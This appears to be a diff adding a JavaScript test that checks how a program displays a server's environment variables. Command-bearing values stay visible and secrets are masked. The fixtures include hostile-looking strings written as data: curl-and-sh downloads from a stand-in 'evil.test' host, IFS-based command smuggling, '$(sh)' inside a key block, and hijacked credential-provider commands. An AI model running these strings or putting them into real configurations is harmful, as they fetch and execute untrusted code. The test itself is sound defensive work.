@@ -253,6 +253,51 @@ describe('a program', () => {
     expect(await db.get('servers', 1)).toHaveProperty('openEnv', { ...env, PATH: 'x://?•••:/tmp/evil' });
   });
 
+  it('shows what a variable has run, however secret it sounds', async () => {
+    const env = {
+      GOAUTH: 'sh',
+      CARGO_REGISTRY_GLOBAL_CREDENTIAL_PROVIDERS: 'cargo:token-from-stdout',
+      NUGET_CREDENTIALPROVIDERS_PATH: 'evil',
+      PYTHON_KEYRING_BACKEND: 'evil.Backend',
+      RESTIC_PASSWORD_COMMAND: 'evil',
+      ANSIBLE_VAULT_PASSWORD_FILE: 'evil.sh',
+      A_TOKEN: 'npx evil',
+      B_TOKEN: '{curl,evil.test}|sh',
+      C_TOKEN: 'sh${IFS}x',
+      D_TOKEN: 'Bearer x;sh',
+      E_TOKEN: 'curl$IFS-o/tmp/a',
+      F_TOKEN: 'npx$BLANK-y',
+      G_TOKEN: 'x&/tmp/evil',
+      H_TOKEN: '/tmp/evil',
+      I_TOKEN: '~/evil',
+      J_TOKEN: '$HOME/evil',
+      K_TOKEN: '\\\\evil.test\\x.dll',
+      L_TOKEN: '-----BEGIN KEY-----\n$(sh)\n-----END KEY-----',
+      BLANK: ' ',
+    };
+    const opened = {
+      GIT_SSH_COMMAND: 'ssh://git.test/?x&curl$IFS-o/tmp/a$IFS$9evil.test&&sh$IFS/tmp/a',
+      GIT_PROXY_COMMAND: 'ssh://git.test/?x$IFS/tmp/a',
+      FEED: 'https://feed.test/?a=hush&b=hush',
+    };
+    const secrets = {
+      AWS_SECRET_ACCESS_KEY: '/hUsh+7MDENG/bPxRfiCYhushEKEY',
+      DB_PASSWORD: 'hush&$h!#%^*9',
+      AUTH_HEADER: 'Authorization: Bearer hush',
+      API_TOKEN: 'Bearer hush',
+      PRIVATE_KEY: '-----BEGIN RSA PRIVATE KEY-----\nhush+/=\nhush\n-----END RSA PRIVATE KEY-----\n',
+      GOOGLE_CREDENTIALS: '{ "private_key": "hush" }',
+    };
+    await worker.servers.add({ ...program, env: { ...env, ...opened, ...secrets } });
+    expect(await db.get('servers', 1)).toHaveProperty('openEnv', {
+      ...env,
+      GIT_SSH_COMMAND: 'ssh://git.test/?•••&curl$IFS-o/tmp/a$IFS$9evil.test&&sh$IFS/tmp/a',
+      GIT_PROXY_COMMAND: 'ssh://git.test/?•••$IFS/tmp/a',
+      FEED: 'https://feed.test/?•••',
+    });
+    expect(JSON.stringify(await worker.servers.list())).not.toContain('hush');
+  });
+
   it('shows them without what an import asked for as a password', async () => {
     const env = {
       NODE_OPTIONS: '--title=hush-hush-hush -r ./x.js',
